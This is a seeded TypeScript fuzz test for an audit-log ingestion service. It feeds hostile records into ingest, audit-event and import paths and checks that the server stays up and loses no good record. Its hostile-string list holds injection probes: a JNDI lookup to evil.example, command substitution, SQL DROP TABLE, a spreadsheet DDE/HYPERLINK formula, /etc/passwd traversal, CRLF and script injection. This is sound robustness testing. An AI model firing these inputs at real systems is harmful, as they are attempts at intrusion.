/**
 * Issue #11: no input stops a consumer, no input gets a 500. Thousands of generated hostile records
 * (lone surrogates, NUL, bidi and zero-width characters, strings at and past the size limits,
 * JSON-, template-, SQL- and formula-looking strings, odd number literals, deep and wide nesting,
 * a wrong JSON type in every known field) go through `/ingest`, PutAuditEvents into a channel of a
 * Lake store, and a file:// import, interleaved with known good records. Every good record must reach
 * every place it belongs (the live Lake store and the trail's log files for /ingest, the channel's
 * store for PutAuditEvents, the import's store for the import), no call may answer 500, the server
 * must stay up, and `/health` must end `ok` with nothing quarantined: every record the ingest rules
 * accept is one every consumer's store takes (a value a typed Lake column cannot hold is NULL there
 * and kept in eventJson), so a hostile record is refused at the door or stored, never set aside.
 *
 * Seeded: the seed is printed; `CAIRN_FUZZ_SEED=<seed>` replays the same hostile choices.
 */
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { randomInt, randomUUID } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import {
  CreateChannelCommand,
  CreateEventDataStoreCommand,
  CreateTrailCommand,
  StartLoggingCommand,
  type CloudTrailClient,
} from "@aws-sdk/client-cloudtrail";
import { S3Client } from "@aws-sdk/client-s3";
import { removeDataDir, startServerProcess, TEST_ACCOUNT_ID, type ServerProcess } from "../helpers/server-process.js";
import { ingestCall, sendRaw, type RawResponse } from "../helpers/signed-request.js";
import { recentRecords, type RawRecord } from "../helpers/sample-records.js";
import { pollUntil } from "../helpers/poll.js";
import { ensureTrailBucket } from "../helpers/test-backend.js";
import { deliveredOnS3 } from "../helpers/trail-delivery.js";
import { importDirectory } from "../helpers/lake-import.js";
import { admin, lakeClient, queryAll } from "../lake/lake-client.js";

const SEED = Number(process.env["CAIRN_FUZZ_SEED"] ?? randomInt(2 ** 31));
process.stdout.write(`\nfuzz-hostile-records seed: ${SEED} (replay with CAIRN_FUZZ_SEED=${SEED})\n\n`);

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const random = seededRandom(SEED);
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
const chance = (p: number): boolean => random() < p;

const HOSTILE_STRINGS = [
  "\ud800",
  "x\udfffy",
  "\udc00\ud800",
  "\u0000",
  "nul\u0000byte",
  "\u202eevil\u202c",
  "zero\u200bwidth\u200d",
  "\ufeffbom",
  "\u2066isolate\u2069",
  "\u200f\u061c",
  '{"eventID":"spoofed","Records":[]}',
  "[1,2,3]",
  '"quoted"',
  "null",
  "true",
  "\\",
  "\\u0000",
  "${jndi:ldap://evil.example/a}",
  "${7*7}",
  "{{7*7}}",
  "#{7*7}",
  "`id`",
  "$(id)",
  "' OR '1'='1",
  "'; DROP TABLE events; --",
  '"; SELECT 1; --',
  "1; DELETE FROM x",
  "=1+1",
  "+cmd|'/C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  '=HYPERLINK("http://evil.example")',
  "NaN",
  "Infinity",
  "-Infinity",
  "-0",
  "1e308",
  "0x10",
  "../../etc/passwd",
  "C:\\Windows\\System32",
  "%00%s%n",
  "\r\nInjected-Header: yes\r\n\r\n",
  "<script>alert(1)</script>",
  "🙂🙃",
  "\u{10ffff}",
  "e\u0301",
  "",
  " ",
];

/** Number literals written into the JSON text as they are (JSON.stringify cannot write most of them). */
const RAW_NUMBERS = [
  "1e308",
  "-1e308",
  "1e400",
  "-0",
  "5e-324",
  "0.0000000000000000000001",
  "123456789012345678901234567890",
  "-9007199254740993",
];

function hostileString(): string {
  const roll = random();
  if (roll < 0.7) return pick(HOSTILE_STRINGS);
  if (roll < 0.9) return pick(HOSTILE_STRINGS) + pick(HOSTILE_STRINGS);
  // Long: around a field limit (1 KB strings) or near the 256 KB record limit.
  const length = pick([1023, 1024, 1025, 4096, 100 * 1024, 250 * 1024, 262_144]);
  return pick(["a", "é", "\u200b", "'"]).repeat(length);
}

/** A placeholder string replaced by a raw number literal once the record is JSON text. */
function rawNumber(): string {
  return `__RAW_NUMBER_${pick(RAW_NUMBERS)}__`;
}

function jsonText(value: unknown): string {
  return JSON.stringify(value).replace(/"__RAW_NUMBER_([^_]+)__"/g, "$1");
}

const WRONG_TYPES: readonly unknown[] = [0, 1.5, true, false, [], [1, "x"], {}, { a: { b: 1 } }, "", "text", null];

/** Every known field (dotted path), each to be given every wrong JSON type once. */
const KNOWN_FIELDS = [
  "eventVersion",
  "userIdentity",
  "userIdentity.type",
  "userIdentity.principalId",
  "userIdentity.arn",
  "userIdentity.accountId",
  "userIdentity.accessKeyId",
  "userIdentity.userName",
  "userIdentity.invokedBy",
  "userIdentity.identityProvider",
  "userIdentity.onBehalfOf",
  "userIdentity.sessionContext",
  "userIdentity.sessionContext.attributes",
  "userIdentity.sessionContext.attributes.creationDate",
  "userIdentity.sessionContext.attributes.mfaAuthenticated",
  "userIdentity.sessionContext.sessionIssuer",
  "userIdentity.sessionContext.sessionIssuer.arn",
  "userIdentity.sessionContext.webIdFederationData",
  "userIdentity.sessionContext.sourceIdentity",
  "eventTime",
  "eventSource",
  "eventName",
  "awsRegion",
  "sourceIPAddress",
  "userAgent",
  "errorCode",
  "errorMessage",
  "requestParameters",
  "responseElements",
  "additionalEventData",
  "requestID",
  "eventID",
  "readOnly",
  "resources",
  "resources.0",
  "resources.0.ARN",
  "resources.0.type",
  "resources.0.accountId",
  "eventType",
  "apiVersion",
  "managementEvent",
  "recipientAccountId",
  "sharedEventID",
  "annotation",
  "vpcEndpointId",
  "vpcEndpointAccountId",
  "serviceEventDetails",
  "addendum",
  "edgeDeviceDetails",
  "insightDetails",
  "eventCategory",
  "tlsDetails",
  "tlsDetails.tlsVersion",
  "tlsDetails.cipherSuite",
  "tlsDetails.clientProvidedHostHeader",
  "sessionCredentialFromConsole",
  "eventContext",
];

/** Sets `path` (dots; numeric parts index arrays) in `record`, creating what is missing on the way. */
function setPath(record: RawRecord, path: string, value: unknown): void {
  const parts = path.split(".");
  let node: Record<string, unknown> = record;
  for (let i = 0; i < parts.length - 1; i++) {
    const next = node[parts[i]!];
    if (typeof next !== "object" || next === null) node[parts[i]!] = /^\d+$/.test(parts[i + 1]!) ? [] : {};
    node = node[parts[i]!] as Record<string, unknown>;
  }
  node[parts.at(-1)!] = value;
}

/** Fields a hostile string may go to (strings or not: each store must take what the ingest rules accept). */
const STRING_FIELDS = [
  "userIdentity.sessionContext.attributes.creationDate",
  "userIdentity.onBehalfOf",
  "eventName",
  "eventSource",
  "userAgent",
  "sourceIPAddress",
  "errorCode",
  "errorMessage",
  "requestID",
  "eventID",
  "awsRegion",
  "recipientAccountId",
  "sharedEventID",
  "annotation",
  "vpcEndpointId",
  "apiVersion",
  "eventType",
  "eventCategory",
  "userIdentity.userName",
  "userIdentity.arn",
  "userIdentity.principalId",
  "userIdentity.type",
  "userIdentity.accessKeyId",
  "userIdentity.sessionContext.sessionIssuer.userName",
  "resources.0.ARN",
  "tlsDetails.clientProvidedHostHeader",
  "sessionCredentialFromConsole",
  "x-vendor-field",
];

function nested(depth: number): unknown {
  let value: unknown = pick(HOSTILE_STRINGS);
  for (let level = 0; level < depth; level++) value = chance(0.5) ? { [pick(HOSTILE_STRINGS)]: value } : [value];
  return value;
}

function wide(keys: number): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (let i = 0; i < keys; i++)
    out[`${pick(HOSTILE_STRINGS)}${i}`] = chance(0.2) ? rawNumber() : pick(HOSTILE_STRINGS);
  return out;
}

/** One random hostile change to a record. */
const MUTATIONS: ReadonlyArray<(record: RawRecord) => void> = [
  (record) => setPath(record, pick(STRING_FIELDS), hostileString()),
  (record) => setPath(record, "requestParameters", { [hostileString()]: hostileString(), n: rawNumber() }),
  (record) => setPath(record, "responseElements", { list: [rawNumber(), rawNumber(), hostileString()] }),
  (record) => setPath(record, "requestParameters", { deep: nested(20 + Math.floor(random() * 20)) }),
  (record) => setPath(record, "additionalEventData", wide(100 + Math.floor(random() * 3000))),
  (record) => setPath(record, pick(["requestParameters", "serviceEventDetails"]), wide(4000)),
  (record) => setPath(record, pick(STRING_FIELDS), rawNumber()),
  (record) =>
    setPath(record, "eventTime", pick([hostileString(), rawNumber(), "2024-02-30T00:00:00Z", "9999-12-31T23:59:59Z"])),
  (record) => setPath(record, "readOnly", pick(["TRUE", "yes", rawNumber(), hostileString()])),
  (record) =>
    setPath(record, "resources", [{ ARN: hostileString(), type: hostileString(), accountId: hostileString() }]),
  (record) => setPath(record, `x${Math.floor(random() * 1000)}`, hostileString()),
  (record) => {
    delete record[pick(["eventTime", "eventName", "eventSource", "eventID", "awsRegion", "userIdentity"])];
  },
];

/** A real record, under a new eventID (else it would be a duplicate), with one to four hostile changes. */
function hostileRecord(base: RawRecord): RawRecord {
  const record = { ...structuredClone(base), eventID: randomUUID() };
  const count = 1 + Math.floor(random() * 4);
  for (let i = 0; i < count; i++) pick(MUTATIONS)(record);
  return record;
}

/** The wrong-type matrix: each known field given each wrong JSON type, once. */
function wrongTypeRecords(bases: readonly RawRecord[]): RawRecord[] {
  const out: RawRecord[] = [];
  let i = 0;
  for (const field of KNOWN_FIELDS)
    for (const value of WRONG_TYPES) {
      const record = { ...structuredClone(bases[i++ % bases.length]!), eventID: randomUUID() };
      setPath(record, field, structuredClone(value));
      out.push(record);
    }
  return out;
}

/** The items in a seeded order. */
function shuffled<T>(items: readonly T[]): T[] {
  const all = [...items];
  for (let i = all.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [all[i], all[j]] = [all[j]!, all[i]!];
  }
  return all;
}

function chunks<T>(items: readonly T[], size: number): T[][] {
  const out: T[][] = [];
  for (let i = 0; i < items.length; i += size) out.push(items.slice(i, i + size));
  return out;
}

function assertNo500(response: RawResponse, what: string): void {
  assert.ok(response.status < 500, `${what} answered ${response.status}: ${response.text.slice(0, 500)}`);
}

async function eventIdsIn(client: CloudTrailClient, store: string, ids: readonly string[]): Promise<Set<string>> {
  const found = new Set<string>();
  for (const part of chunks(ids, 200)) {
    const outcome = await queryAll(
      client,
      `SELECT eventID FROM ${store} WHERE eventID IN (${part.map((id) => `'${id}'`).join(",")})`,
    );
    assert.equal(outcome.status, "FINISHED", outcome.error);
    for (const row of outcome.rows) found.add(String(row[0]!["eventID"]));
  }
  return found;
}

function goodAuditEvent(uid: string): string {
  return JSON.stringify({
    version: "1.0",
    userIdentity: { type: "CustomUser", principalId: "fuzz", details: { team: "blue" } },
    eventSource: "fuzz.example.com",
    eventName: "GoodEvent",
    eventTime: new Date().toISOString().replace(/\.\d{3}Z$/, "Z"),
    UID: uid,
    requestParameters: { n: 1 },
    recipientAccountId: TEST_ACCOUNT_ID,
  });
}

/** An audit event's eventData with hostile content, or not JSON at all. */
function hostileAuditEvent(uid: string): string {
  const data = JSON.parse(goodAuditEvent(uid)) as RawRecord;
  const roll = random();
  if (roll < 0.05) return pick(["", "not json", "[]", "null", "{", '"x"', "1e400"]);
  const field = pick([
    "eventName",
    "eventSource",
    "UID",
    "userAgent",
    "errorCode",
    "errorMessage",
    "sourceIPAddress",
    "version",
    "eventTime",
    "recipientAccountId",
    "requestParameters",
    "responseElements",
    "additionalEventData",
    "userIdentity",
    "userIdentity.type",
    "userIdentity.principalId",
    "userIdentity.details",
  ]);
  const value = chance(0.5) ? hostileString() : chance(0.5) ? structuredClone(pick(WRONG_TYPES)) : rawNumber();
  setPath(data, field, value);
  if (chance(0.3)) setPath(data, "requestParameters", { deep: nested(10 + Math.floor(random() * 30)), w: wide(50) });
  // Under the 1 MB of eventData a call may carry; a cut JSON text is just one more invalid event.
  return Buffer.from(jsonText(data)).subarray(0, 900_000).toString("utf8");
}

describe(`fuzz: hostile records through every source (seed ${SEED})`, () => {
  let server: ServerProcess;
  let client: CloudTrailClient;
  let liveStore = "";
  let auditStore = "";
  let importStore = "";
  let channelArn = "";
  const bucket = "fuzz-trail-bucket";
  const archive = mkdtempSync(join(tmpdir(), "cairn-fuzz-archive-"));
  const goodIngest: string[] = [];
  const goodAudit: string[] = [];
  const goodImport: string[] = [];
  const hostileIds = new Set<string>();
  /** What each source made of the hostile records, printed at the end. */
  const summary: string[] = [];

  before(async () => {
    server = await startServerProcess({
      env: {
        CAIRN_LAKE_FLUSH_INTERVAL_MS: "200",
        CAIRN_DELIVERY_INTERVAL_SECONDS: "1",
        CAIRN_IMPORT_ALLOWED_DIRS: archive,
      },
    });
    client = lakeClient(server.url);
    liveStore = (await client.send(new CreateEventDataStoreCommand({ Name: "fuzz-live" }))).EventDataStoreArn!.split(
      "/",
    )[1]!;
    const audit = await client.send(
      new CreateEventDataStoreCommand({
        Name: "fuzz-audit",
        AdvancedEventSelectors: [{ FieldSelectors: [{ Field: "eventCategory", Equals: ["ActivityAuditLog"] }] }],
      }),
    );
    auditStore = audit.EventDataStoreArn!.split("/")[1]!;
    channelArn = (
      await client.send(
        new CreateChannelCommand({
          Name: "fuzz",
          Source: "Custom",
          Destinations: [{ Type: "EVENT_DATA_STORE", Location: auditStore }],
        }),
      )
    ).ChannelArn!;
    importStore = (
      await client.send(new CreateEventDataStoreCommand({ Name: "fuzz-import", StartIngestion: false }))
    ).EventDataStoreArn!.split("/")[1]!;
    await ensureTrailBucket(server.dataDir, bucket);
    await client.send(new CreateTrailCommand({ Name: "fuzz-trail", S3BucketName: bucket }));
    await client.send(new StartLoggingCommand({ Name: "fuzz-trail" }));
  });
  after(async () => {
    client?.destroy();
    await server?.stop();
    if (server) removeDataDir(server.dataDir);
    rmSync(archive, { recursive: true, force: true });
  });

  it("/ingest: every batch answers 200, and each good record is accepted", async () => {
    const bases = recentRecords(400, { accountId: TEST_ACCOUNT_ID });
    const good = recentRecords(300, { accountId: TEST_ACCOUNT_ID });
    const hostile = [...wrongTypeRecords(bases), ...bases.map(hostileRecord), ...bases.map(hostileRecord)];
    for (const record of hostile) hostileIds.add(String(record["eventID"]));
    const goodIds = new Set(good.map((record) => record["eventID"] as string));
    let refusedCount = 0;
    for (const batch of chunks(shuffled([...good, ...hostile]), 150)) {
      const call = ingestCall([], admin);
      const response = await sendRaw(server.url, { ...call, body: `{"Records":[${batch.map(jsonText).join(",")}]}` });
      assertNo500(response, "/ingest");
      assert.equal(response.status, 200, response.text.slice(0, 500));
      const failed = (response.json()["failed"] as Array<{ index: number; errorCode: string }>) ?? [];
      refusedCount += failed.length;
      for (const failure of failed) {
        const record = batch[failure.index]!;
        assert.ok(!goodIds.has(record["eventID"] as string), `a good record was refused: ${JSON.stringify(failure)}`);
      }
    }
    goodIngest.push(...goodIds);
    summary.push(`/ingest: ${hostile.length} hostile records, ${refusedCount} refused by the ingest rules`);
  });

  it("PutAuditEvents: every call answers without a 500, and each good event is accepted", async () => {
    const events: Array<{ id: string; eventData: string; good: boolean }> = [];
    for (let i = 0; i < 200; i++) events.push({ id: `good-${i}`, eventData: goodAuditEvent(`good-${i}`), good: true });
    for (let i = 0; i < 800; i++)
      events.push({ id: `bad-${i}`, eventData: hostileAuditEvent(`bad-${i}`), good: false });

    // At most 100 events and 1 MB of eventData per call (spec §7.5): pack greedily.
    const calls: Array<typeof events> = [[]];
    let bytes = 0;
    for (const event of shuffled(events)) {
      const size = Buffer.byteLength(event.eventData);
      if (calls.at(-1)!.length === 100 || bytes + size > 1_000_000) {
        calls.push([]);
        bytes = 0;
      }
      calls.at(-1)!.push(event);
      bytes += size;
    }
    const hostileBefore = hostileIds.size;
    for (const batch of calls) {
      const response = await sendRaw(server.url, {
        ...admin,
        service: "cloudtrail-data",
        path: "/PutAuditEvents",
        query: { channelArn },
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ auditEvents: batch.map(({ id, eventData }) => ({ id, eventData })) }),
      });
      assertNo500(response, "PutAuditEvents");
      assert.equal(response.status, 200, response.text.slice(0, 500));
      const answer = response.json() as {
        successful: Array<{ id: string; eventID: string }>;
        failed: Array<{ id: string }>;
      };
      const failedIds = new Set(answer.failed.map((failure) => failure.id));
      for (const event of batch.filter((e) => e.good)) assert.ok(!failedIds.has(event.id), `${event.id} refused`);
      for (const success of answer.successful)
        if (success.id.startsWith("good-")) goodAudit.push(success.eventID);
        else hostileIds.add(success.eventID);
    }
    assert.equal(goodAudit.length, 200);
    summary.push(`PutAuditEvents: 800 hostile events, ${800 - (hostileIds.size - hostileBefore)} refused`);
    // A request-level problem (a hostile id) is a 4xx for the whole call, never a 500.
    const refused = await sendRaw(server.url, {
      ...admin,
      service: "cloudtrail-data",
      path: "/PutAuditEvents",
      query: { channelArn },
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ auditEvents: [{ id: "\u0000'; --", eventData: goodAuditEvent("x") }] }),
    });
    assert.equal(refused.status, 400, refused.text);
  });

  it("a file:// import of hostile archives completes with every good record", async () => {
    const bases = recentRecords(200, { accountId: TEST_ACCOUNT_ID });
    const good = recentRecords(200, { accountId: TEST_ACCOUNT_ID });
    const hostile = [
      ...bases.map(hostileRecord),
      ...bases.map(hostileRecord),
      ...wrongTypeRecords(bases).filter(() => chance(0.3)),
    ];
    for (const record of hostile) hostileIds.add(String(record["eventID"]));
    const day = join(archive, "AWSLogs", TEST_ACCOUNT_ID, "CloudTrail", "us-east-1", "2024", "01", "01");
    mkdirSync(day, { recursive: true });
    chunks(shuffled([...good, ...hostile]), 120).forEach((records, i) => {
      const name = `${TEST_ACCOUNT_ID}_CloudTrail_us-east-1_20240101T0000Z_fuzz${String(i).padStart(3, "0")}.json.gz`;
      writeFileSync(join(day, name), gzipSync(`{"Records":[${records.map(jsonText).join(",")}]}`));
    });
    // Whole files that are no trail file at all.
    writeFileSync(join(day, `${TEST_ACCOUNT_ID}_CloudTrail_us-east-1_20240101T0000Z_broken1.json.gz`), "not gzip");
    writeFileSync(join(day, `${TEST_ACCOUNT_ID}_CloudTrail_us-east-1_20240101T0000Z_broken2.json`), '{"Records":');
    const done = await importDirectory(client, importStore, archive, 240_000);
    assert.equal(done.ImportStatus, "COMPLETED", JSON.stringify(done));
    assert.ok((done.ImportStatistics?.FailedEntries ?? 0) >= 2, "the broken files at least");
    goodImport.push(...good.map((record) => record["eventID"] as string));
    summary.push(
      `import: ${hostile.length} hostile records, ${done.ImportStatistics?.FailedEntries} failures, ${done.ImportStatistics?.EventsCompleted} events imported`,
    );
  });

  it("every good record reaches every store it belongs to, and the trail's log files", async () => {
    const wait = { timeoutMs: 240_000, intervalMs: 500 };
    await pollUntil(async () => (await eventIdsIn(client, liveStore, goodIngest)).size === goodIngest.length, {
      ...wait,
      message: "the good /ingest records in the live store",
    });
    await pollUntil(async () => (await eventIdsIn(client, auditStore, goodAudit)).size === goodAudit.length, {
      ...wait,
      message: "the good audit events in the channel's store",
    });
    assert.equal((await eventIdsIn(client, importStore, goodImport)).size, goodImport.length);
    // Read as a customer reads them: through the S3 endpoint the bucket is on (Cairn's own, or the cluster's).
    const s3 = new S3Client({ endpoint: server.s3Url!, region: "us-east-1", credentials: admin, forcePathStyle: true });
    try {
      await pollUntil(
        async () => {
          const delivered = await deliveredOnS3(s3, bucket);
          return goodIngest.every((id) => delivered.has(id));
        },
        { ...wait, message: "the good /ingest records in the trail's log files" },
      );
    } finally {
      s3.destroy();
    }
  });

  it("stays up; /health ends ok, with nothing quarantined", async () => {
    assert.equal(server.child.exitCode, null, "the server is still running");
    process.stdout.write(`fuzz: ${summary.join("; ")}\n`);
    type Health = {
      status: string;
      reasons: Array<{ code: string; message: string }>;
      consumers: Record<string, { lagRecords: number }>;
      quarantine: { records: number };
    };
    const health = await pollUntil(
      async () => {
        const body = (await (await fetch(`${server.url}/health`)).json()) as Health;
        return Object.values(body.consumers).every((consumer) => consumer.lagRecords === 0) ? body : undefined;
      },
      { timeoutMs: 120_000, intervalMs: 500, message: "every consumer at the journal head" },
    );
    const quarantined = await sendRaw(server.url, {
      ...admin,
      method: "GET",
      path: "/quarantine",
      query: { maxResults: "1000" },
    });
    assert.equal(quarantined.status, 200, quarantined.text);
    assert.deepEqual(quarantined.json()["records"], [], "no record is quarantined");
    assert.equal(health.status, "ok", JSON.stringify(health.reasons));
    assert.deepEqual(health.reasons, []);
    assert.equal(health.quarantine.records, 0);
    assert.equal((await fetch(`${server.url}/health/ready`)).status, 200);
    assert.doesNotMatch(server.output(), /internal error/i, server.output().slice(-3000));
  });
});
